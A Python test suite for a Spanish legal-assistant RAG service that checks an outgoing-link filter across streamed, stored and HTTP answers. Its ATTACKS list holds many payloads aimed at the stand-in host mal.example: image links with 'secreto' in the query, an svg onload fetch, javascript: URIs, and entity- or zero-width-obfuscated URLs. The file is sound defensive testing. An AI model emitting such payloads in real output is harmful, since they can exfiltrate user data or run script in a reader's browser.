"""What an answer may lead to, piece by piece as it is streamed and as it is kept, on every front."""

import json
import random
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest
from langchain_core.messages import AIMessageChunk
from markdown_it import MarkdownIt
from support.doubles import FakeStore, QueueChat, make_chunk
from support.loopback import remote, serving
from support.openai_server import OpenAIServer, Reply
from support.small_case import RELEVANT, SmallBase, case_services
from support.waiting import PATIENCE
from support.wired import META, QUESTION, SEARCH, VACATION, Wired, shown, wired

from articulado.prompting.outgoing_links import LinkFilter, inert, without_foreign_links
from graph.case import build_generate_response
from graph.open_graphs import OpenGraphs
from server.app import Site, app_over, create_app
from server.conversations.store import MEMORY
from server.settings import ServerSettings

OWN = VACATION["url"]
NOTE = "[enlace omitido]"
ATTACKS = [
    "![x](https://mal.example/?d=secreto)",
    "![x]  (//mal.example/i.png)",
    "[C1](https://mal.example/a)",
    "【C1】(https://mal.example/a)",
    "[x](<https://mal.example/a>)",
    "[x](  https://mal.example/a 'título')",
    "[x](&#104;ttps&#58;//mal.example/a)",
    "[x][y]\n\n[y]: //mal.example/a",
    "[y]:\nhttps://mal.example/a",
    "<https://mal.example/a>",
    "<img src=//mal.example/p.png>",
    "<svg/onload=fetch('//mal.example')>",
    "<[C9]img src=x>",
    "[x][C9](javascript:alert(1))",
    "data:image/png;base64,AAAA",
    "javascript:alert(1)",
    "https:mal.example/a",
    "http:\\\\mal.example",
    "ht\u200btps://mal.example",
    "www.mal.example/?d=1",
    f"{OWN}.mal.example/?d=1",
    f"{OWN}?d=secreto",
    "https://www.boe.es@mal.example/a",
    "w[C9]ww.mal.example/a",
    "[x]: mal\n\n[x]",
    "[x\ny]: mal 'título'\n\n[x y]",
    "<https://mal.example/a?d=secreto>",
    "&lt;img src=x&gt; y &#60;svg onload=x&#62;",
    "https&#58;&#47;&#47;mal.example/?d=1",
    "https&colon;//mal.example/?d=1",
    "&amp;#104;ttps:&#x2f;/mal.example",
    "_www.mal.example/?d=1_ y ~//mal.example~",
    "www\\.mal.example y https\\://mal.example y \\/\\/mal.example",
    "secreto@mal.example",
    "xmpp:secreto@mal.example/a",
    "mal.example/?d=secreto",
    "s\u00adecreto.mal.example/a\U000e0041",
    f"{OWN})](&d=secreto",
    f"[x]({OWN})title=secreto",
    f"«{OWN}»secreto {OWN}[d=secreto]",
    f"{OWN}\u00a0[secreto",
    "ht\x0ctps://mal.example/a",
]
ALL_TOGETHER = "\n\n".join(ATTACKS)
LIVE = re.compile(
    r"!\[|\]\((?!https://www\.boe\.es/[^\s()]*\))|\]:\s*\S*[/&]|<[a-z/!?]|(?:data|javascript):", re.IGNORECASE
)


class Led(HTMLParser):
    """Keeps where what is rendered leads, or what it fetches."""

    def __init__(self) -> None:
        super().__init__()
        self.to: set[str | None] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.to |= {value for name, value in attrs if name in ("href", "src")}
        self.to |= {tag} - TEXT_TAGS


TEXT_TAGS = {
    "p",
    "a",
    "em",
    "strong",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "hr",
    "br",
}
MARKDOWN = MarkdownIt("commonmark", {"html": True})


def rendered(text: str) -> set[str | None]:
    """Return where a text leads once it is rendered, and the tags in it that are no text."""
    led = Led()
    led.feed(MARKDOWN.render(text))
    return led.to


def leads_away(text: str) -> bool:
    """Tell whether anything in a text is live, or names the foreign host as an address."""
    addresses = re.findall(r"(?:https?:|//|www\.)[^\s)\]>]*|\S@\S+\.\w|\w\.\w+/\S", text.replace(OWN, ""))
    return bool(
        LIVE.search(text)
        or addresses
        or rendered(text) - {OWN}
        or text.count(OWN) != len(re.findall(re.escape(OWN) + r"(?=$|[\s).,])", text))
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cut_of_a_stream_lets_anything_through(attack: str) -> None:
    text = f"Son 30 días {attack} y véase {OWN}. [Aquí]({OWN}) [C1]."
    whole = without_foreign_links(text, {OWN}, NOTE)
    assert f"véase {OWN}. [Aquí]({OWN}) [C1]." in whole
    assert without_foreign_links(whole, {OWN}, NOTE) == whole
    chance = random.Random(attack)
    for _ in range(12):
        filtered, rest = LinkFilter({OWN}, NOTE), text
        while rest:
            size = chance.randrange(1, 12)
            filtered.feed(rest[:size])
            rest = rest[size:]
        filtered.close()
        assert filtered.text == whole


def test_no_renderer_makes_a_link_of_what_the_pieces_of_attacks_add_up_to() -> None:
    pieces = [piece for attack in ATTACKS for piece in re.findall(r"\w+|\W", attack)]
    for seed in range(500):
        chance = random.Random(seed)
        text = "".join(chance.choice(pieces) for _ in range(chance.randrange(2, 40)))
        whole = without_foreign_links(text, {OWN}, NOTE)
        assert rendered(whole) <= {OWN}, text
        assert without_foreign_links(whole, {OWN}, NOTE) == whole, text
        assert rendered(inert(text)) == set(), text


def test_what_a_document_says_keeps_its_addresses_to_be_read_and_nothing_that_is_fetched() -> None:
    said = inert(
        "<img src=x> ![a](//b.es) [Aquí](https://c.es/d) www.sepe.es, x@sepe.es &#60;svg>\u202e [C1]\n[e]: //f"
    )
    assert said == "‹img src=x> [a] (//b.es) [Aquí] (https://c.es/d) www.sepe.es, x@sepe.es ‹svg> [C1]\n[e] : //f"


@pytest.mark.parametrize(
    "plain",
    [
        "¡Enhorabuena! [C1]",
        "Lo dice [C1]: 30 días; véase [C2]: 15.",
        "arts. 38.1/2 y 3, R.D.Leg. 2/2015, y/o 1//2, 10:30/11:45, ET:38, sepe.es, @sepe",
        f"({OWN}). **{OWN}**",
        "R&D, 5 < 6, a -> b, AT&T;",
    ],
)
def test_plain_text_stays_as_it_is(plain: str) -> None:
    assert without_foreign_links(plain, {OWN}, NOTE) == plain


@pytest.mark.parametrize("attack", [*ATTACKS[:3], ALL_TOGETHER])
async def test_streamed_tokens_messages_and_result_lead_to_sources_alone(server: OpenAIServer, attack: str) -> None:
    async with wired(server) as rig:
        server.answer("principal", lambda request: Reply(f"Son 30 días [C1]. {attack} Fin, {OWN}.{META}", piece=3))
        said: dict[str, str] = {}
        events: list[Any] = []
        modes = ["custom", "messages"]
        async for mode, item in rig.graph.astream({"question": QUESTION}, stream_mode=modes):
            if mode == "custom":
                events.append(item)
            elif isinstance(item[0], AIMessageChunk):
                said[item[0].id or ""] = said.get(item[0].id or "", "") + str(item[0].text)
        result = events[-1]["result"]
    assert result["answer"].endswith(f"Fin, {OWN}.")
    for text in (result["answer"], *shown(events), *said.values()):
        assert not leads_away(text), text


def test_no_front_lets_anything_through(server: OpenAIServer) -> None:
    written = ALL_TOGETHER
    rig = Wired(server)
    server.answer("principal", lambda request: Reply(f"Son 30 días [C1]. {written}{META}", piece=9))
    with (
        serving(create_app(Site(rig.graph, close=rig.close))) as url,
        httpx.Client(base_url=url, timeout=PATIENCE) as http,
    ):
        texts = [http.post("/v1/ask", json={"question": QUESTION}).json()["answer"]]
        stream = http.post("/v1/ask", json={"question": QUESTION}, headers={"accept": "text/event-stream"}).text
        data = [json.loads(line[6:]) for line in stream.splitlines() if line.startswith("data: {")]
        texts.append("".join(one.get("text", "") for one in data))
        texts += [one["answer"] for one in data if "answer" in one]
        texts.append(http.post("/rag/invoke", json={"input": {"question": QUESTION}}).json()["output"]["answer"])
        with remote(url) as client:
            events = list(client.stream({"question": QUESTION}))
        texts += [*shown(events), events[-1]["result"]["answer"]]
    assert len(texts) == 6
    for text in texts:
        assert "Son 30 días [C1]." in text
        assert not leads_away(text), text


def texts_in(value: Any) -> Iterator[str]:
    """Yield every text of a value as JSON has it."""
    if isinstance(value, str):
        yield value
    else:
        for item in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
            yield from texts_in(item)


async def test_the_answer_to_a_case_leads_nowhere() -> None:
    section = {
        "topic": "![t](//mal.example)",
        "answer_components": [*ATTACKS],
        "steps": [*ATTACKS],
        "warnings": [*ATTACKS],
    }
    reply = {
        "decision": "uncertain",
        "reason": ALL_TOGETHER,
        "response": {"sections": [section]},
        "guardrails_violated": [{"guardrail": "no-promise", "text": ALL_TOGETHER}],
    }
    services = case_services(QueueChat(json.dumps(reply)), base=SmallBase(RELEVANT))
    result = await build_generate_response(services).ainvoke(
        {"inquiry": "May I borrow from my account?", "collected_data": {"vested_balance": "9,000"}, "max_tokens": 5_000}
    )
    # What has a figure that nobody gave is shown as removed.
    shown_texts = [*texts_in(result["response"]), result["message"], *texts_in(result["guardrails"])]
    assert len(shown_texts) > len(ATTACKS)
    assert not [text for text in shown_texts if leads_away(text)]


def test_what_a_document_of_this_machine_says_of_itself_is_inert_and_tells_no_path(server: OpenAIServer) -> None:
    live = "![x](//mal.example/p.png)<img src=//mal.example>"
    document = {"url": "file:///home/ana/convenio.pdf#page=3", "title": f"Vacaciones {live}", "summary": live}
    store = FakeStore([make_chunk(38, "Artículo 38", **document)], {key: [(38, 1.0)] for key in (SEARCH, QUESTION)})
    rig = Wired(server, store)
    lacking = f"\n===META===\nUSED|1\nDROP|ninguno\nNEED|plazo {live}"
    server.answer("principal", lambda request: f"Son 30 días [C1].{lacking}")
    app = app_over(OpenGraphs.over(rig.services), ServerSettings(conversations=MEMORY))
    with serving(app) as url, httpx.Client(base_url=url, timeout=PATIENCE) as http:
        bodies = [
            http.post("/v1/ask", json={"question": QUESTION}).json(),
            http.post("/rag/invoke", json={"input": {"question": QUESTION}}).json()["output"],
        ]
    for body in bodies:
        [citation] = body["citations"]
        assert citation["url"] == "file:convenio.pdf#page=3"
        assert not [text for text in texts_in([body["citations"], body["needs"], body["warnings"]]) if rendered(text)]
    assert "convenio.pdf" in str(server.requests[-1].body)
    assert "/home/ana" not in str([*bodies, *(request.body for request in server.requests)])
